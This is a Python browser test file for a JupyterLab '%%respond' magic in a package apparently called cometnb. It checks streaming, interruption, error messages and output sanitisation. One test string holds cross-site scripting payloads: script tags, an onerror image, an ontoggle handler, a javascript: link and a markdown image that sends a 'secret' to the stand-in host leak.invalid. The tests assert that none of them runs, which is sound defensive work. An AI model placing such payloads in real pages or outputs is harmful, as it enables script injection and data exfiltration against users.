"""``%%respond`` in JupyterLab: streams, stays, is harmless, and reads well when it is saved."""

from __future__ import annotations

from typing import get_args

import pytest

from tests.browser.conftest import OpenNotebook
from tests.browser.lab import Theme

_START = "%load_ext cometnb\n%comet simulator --tokens-per-s 80"
_ASK = "%%respond -e low\nWhat is the mean of a sample?"
_HOSTILE = r"""import cometnb.defaults as d
d.shared.simulator.text = '''Hello <script>window.hacked = 1</script> <img src=x onerror="window.hacked = 2">

<details open ontoggle="window.hacked = 3">x</details>

![leak](https://leak.invalid/?secret) [click](javascript:window.hacked=4)

```html
<script>window.hacked = 5</script>
```

The end.'''"""


@pytest.mark.parametrize("theme", get_args(Theme))
def test_an_answer_streams_and_stays(notebook: OpenNotebook, theme: Theme) -> None:
    """Text shows while it comes; at the end one display is left, with the usage line."""
    page = notebook([_START, _ASK, "_.status"], theme=theme)
    page.run_cell(0)
    page.start_cell(1)
    page.wait_text(1, "simulator")
    page.screenshot(f"respond-{theme}-streaming")
    page.wait_idle()
    page.run_cell(2)
    page.screenshot(f"respond-{theme}-done")
    outputs = page.outputs(1)
    assert [output["output_type"] for output in outputs] == ["display_data"]
    assert "tokens in" in outputs[0]["data"]["text/markdown"]
    assert page.output_text(2).endswith("'completed'")
    assert page.console_errors == []


def test_an_interrupted_answer_keeps_its_text(notebook: OpenNotebook) -> None:
    """The text so far stays in the page and in the file, marked, with one line of error."""
    page = notebook([_START, _ASK])
    page.run_cell(0)
    page.start_cell(1)
    page.wait_text(1, "what arrived")
    page.interrupt()
    page.wait_idle()
    page.screenshot("respond-interrupted")
    page.save()
    shown, error = page.saved().cells[1].outputs
    assert "no model was asked" in shown.data["text/markdown"]
    assert "Interrupted" in shown.data["text/markdown"]
    assert error.ename == "KeyboardInterrupt"
    assert len(error.traceback) == 1


def test_a_hostile_answer_does_nothing(notebook: OpenNotebook) -> None:
    """Neither while it streams nor at its end does it run a script, load an image or link to a script."""
    page = notebook([_START, _HOSTILE, "%%respond -e none\nHello"])
    requested: list[str] = []
    page.page.on("request", lambda request: requested.append(request.url))
    for cell in range(3):
        page.run_cell(cell)
    page.screenshot("respond-hostile")
    assert "The end." in page.output_text(2)
    assert page.page.evaluate("window.hacked === undefined")
    assert not [url for url in requested if "leak.invalid" in url]
    assert page.page.locator(".jp-OutputArea a[href^='javascript']").count() == 0


def test_an_error_is_two_lines(notebook: OpenNotebook) -> None:
    """A wrong option names the value and the next step, and shows nothing of our inside; no view is left waiting."""
    refused = 'from cometnb.defaults import shared; shared.simulator.fault = "401"'
    page = notebook([_START, "%%respond --temperature 3\nHello", refused, "%%respond\nHello"])
    page.run_cell(0)
    page.run_cell(1)
    page.screenshot("respond-error")
    (error,) = page.outputs(1)
    assert error["ename"] == "ParamError"
    assert len(error["traceback"]) == 2
    page.run_cell(2)
    page.run_cell(3)
    page.screenshot("respond-refused")
    (error,) = page.outputs(3)
    assert error["ename"] == "AuthenticationError"
    assert len(error["traceback"]) == 2
